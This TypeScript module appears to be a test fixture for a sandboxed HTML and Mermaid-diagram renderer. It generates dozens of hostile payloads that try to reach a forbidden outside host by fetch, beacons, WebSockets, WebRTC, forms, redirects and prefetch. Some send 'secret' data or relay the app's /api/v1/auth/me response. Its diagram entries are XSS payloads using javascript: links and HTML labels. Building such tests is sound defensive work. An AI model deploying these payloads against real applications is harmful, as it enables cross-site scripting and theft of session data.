type HostileDocument = readonly [attack: string, html: string]

/** @param host of a server that must not be reached */
export function createHostileDocuments(host: string): HostileDocument[] {
  const out = `http://${host}/`
  const js = (code: string) => `<script>${code}</script>`
  return [
    ['script', `<script src="${out}a.js"></script>`],
    ['module', `<script type="module">import '${out}a.js'</script>`],
    ['dynamic import', js(`import('${out}')`)],
    ['style sheet', `<link rel="stylesheet" href="${out}">`],
    ['CSS import', `<style>@import '${out}'</style>`],
    ['CSS url', `<style>body { background: url(${out}) }</style>text`],
    ['font', `<style>@font-face { font-family: f; src: url(${out}) } body { font-family: f }</style>text`],
    ['image', `<img src="${out}">`],
    ['svg image', `<svg><image href="${out}"/><use href="${out}#a"/></svg>`],
    ['video', `<video src="${out}" autoplay></video><audio src="${out}"></audio>`],
    ['object', `<object data="${out}"></object><embed src="${out}">`],
    ['frame', `<iframe src="${out}"></iframe>`],
    ['frame in a frame', `<iframe srcdoc="<script>fetch('${out}');location='${out}'</script>"></iframe>`],
    ['frame of the app', `<iframe src="/settings"></iframe>`],
    ['fetch', js(`fetch('${out}', { mode: 'no-cors' })`)],
    ['fetch of the app', js(`fetch('/api/v1/auth/me', { credentials: 'include' }).then(r => r.text()).then(t => top.postMessage(t, '*'))`)],
    ['XMLHttpRequest', js(`const x = new XMLHttpRequest(); x.open('POST', '${out}'); x.send('secret')`)],
    ['beacon', js(`navigator.sendBeacon('${out}', 'secret')`)],
    ['WebSocket', js(`new WebSocket('ws://${host}')`)],
    ['EventSource', js(`new EventSource('${out}')`)],
    [
      'WebRTC',
      js(
        `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }, { urls: 'turn:${host}?transport=tcp', username: 'u', credential: 'c' }] }); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))`,
      ),
    ],
    ['worker', js(`new Worker(URL.createObjectURL(new Blob(["fetch('${out}')"])))`)],
    ['data worker', js(`new Worker("data:text/javascript,fetch('${out}')")`)],
    ['service worker', js(`navigator.serviceWorker.register('/sw.js')`)],
    ['location', js(`location = '${out}?secret'`)],
    ['location of the app', js(`location = '/api/v1/auth/logout'`)],
    ['refresh', `<meta http-equiv="refresh" content="0; url=${out}?secret">`],
    ['link', `<a href="${out}">x</a>` + js(`document.querySelector('a').click()`)],
    ['link to a new tab', `<a href="${out}" target="_blank">x</a>` + js(`document.querySelector('a').click()`)],
    ['link to the top', `<a href="${out}" target="_top">x</a>` + js(`document.querySelector('a').click()`)],
    ['form', `<form action="${out}" method="post"><input name="a" value="secret"></form>` + js(`document.forms[0].submit()`)],
    ['form to the top', `<form action="${out}" target="_top"><button>x</button></form>` + js(`document.querySelector('button').click()`)],
    ['popup', js(`window.open('${out}')`)],
    ['top location', js(`top.location = '${out}'`)],
    [
      'top replace',
      js(`try { top.location.replace('${out}') } catch {} parent.location = '${out}'; parent.parent.location.href = 'about:blank'`),
    ],
    ['base', `<base href="${out}"><img src="a.png"><script src="a.js"></script>`],
    [
      'prefetch',
      `<link rel="prefetch" href="${out}"><link rel="preload" as="image" href="${out}"><link rel="modulepreload" href="${out}"><link rel="prerender" href="${out}">`,
    ],
    ['preconnect', `<link rel="preconnect" href="${out}"><link rel="dns-prefetch" href="${out}">`],
    [
      'speculation rules',
      `<script type="speculationrules">{"prefetch":[{"urls":["${out}"],"eagerness":"immediate"}],"prerender":[{"urls":["${out}"],"eagerness":"immediate"}]}</script>`,
    ],
    [
      'policy',
      `<meta http-equiv="Content-Security-Policy" content="default-src *; connect-src *"><script>fetch('${out}')</script><img src="${out}">`,
    ],
    ['data page', js(`location = "data:text/html,<img src='${out}'>"`)],
    [
      'blob page',
      js(`location = URL.createObjectURL(new Blob(["<script>fetch('${out}')<\\/script><img src='${out}'>"], { type: 'text/html' }))`),
    ],
    ['javascript page', js(`location = "javascript:'<img src=${out}>'"`)],
    [
      'blank page',
      js(
        `const f = document.createElement('iframe'); document.documentElement.append(f); try { f.contentWindow.fetch('${out}') } catch {} f.contentWindow.location = '${out}'`,
      ),
    ],
    [
      'parent document',
      js(
        `try { parent.document.title = 'Taken' } catch {} try { top.document.title = 'Taken' } catch {} try { top.localStorage.setItem('taken', '1') } catch {} top.document.title`,
      ),
    ],
    [
      'storage',
      js(
        `try { localStorage.setItem('taken', '1') } catch {} try { document.cookie = 'taken=1' } catch {} try { indexedDB.open('taken') } catch {} try { caches.open('taken') } catch {}`,
      ),
    ],
    [
      'messages',
      js(
        `for (const html of ['<img src=${out}>']) { parent.postMessage({ html }, '*'); top.postMessage({ html }, '*'); top.postMessage({ isReady: true }, '*'); top.postMessage({ error: 'forged' }, '*') }`,
      ),
    ],
    ['dialogs', js(`alert(1); confirm(2); prompt(3); print()`)],
    [
      'download',
      `<a href="${out}" download>x</a>` +
        js(
          `document.querySelector('a').click(); const b = document.createElement('a'); b.href = 'data:text/plain,a'; b.download = 'a.txt'; b.click()`,
        ),
    ],
    ['history', js(`try { history.pushState(null, '', '/taken') } catch {} try { top.history.back() } catch {}`)],
    [
      'full screen',
      js(
        `document.documentElement.requestFullscreen(); navigator.geolocation.getCurrentPosition(() => {}); navigator.clipboard.readText()`,
      ),
    ],
    [
      'svg script',
      `<svg xmlns="http://www.w3.org/2000/svg"><script href="${out}"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${out}"></iframe></foreignObject><style>@import '${out}';</style></svg>`,
    ],
    ['ping', `<a href="#x" ping="${out}">x</a>` + js(`document.querySelector('a').click()`)],
    ['webtransport', js(`new WebTransport('https://${host}/')`)],
  ]
}

/** @param host of a server that must not be reached */
export function createHostileDiagrams(host: string): HostileDocument[] {
  const out = `http://${host}/`
  const config = (settings: object) => `%%{init: ${JSON.stringify(settings)}}%%\n`
  const code = `fetch('${out}');top.location='${out}'`
  return [
    [
      'click directives',
      `flowchart LR\n  A[Ebb] --> B[Flood]\n  click A "javascript:${code}" _top\n  click B call fetch("${out}")\n  click B href "${out}" _top`,
    ],
    [
      'init directives',
      `${config({
        securityLevel: 'loose',
        secure: [],
        htmlLabels: true,
        themeCSS: `@import '${out}'; * { background: url(${out}) }`,
        fontFamily: `x; background: url(${out})`,
      })}flowchart LR\n  A["<img src='${out}'>"] --> B`,
    ],
    [
      'HTML labels',
      `flowchart LR\n  A["<img src=x onerror=&quot;${code}&quot;><script>${code}</script>"] --> B["<iframe src='${out}'></iframe>"]`,
    ],
    ['end of the source', `flowchart LR\n  A["</pre><script>${code}</script>"] --> B`],
  ]
}
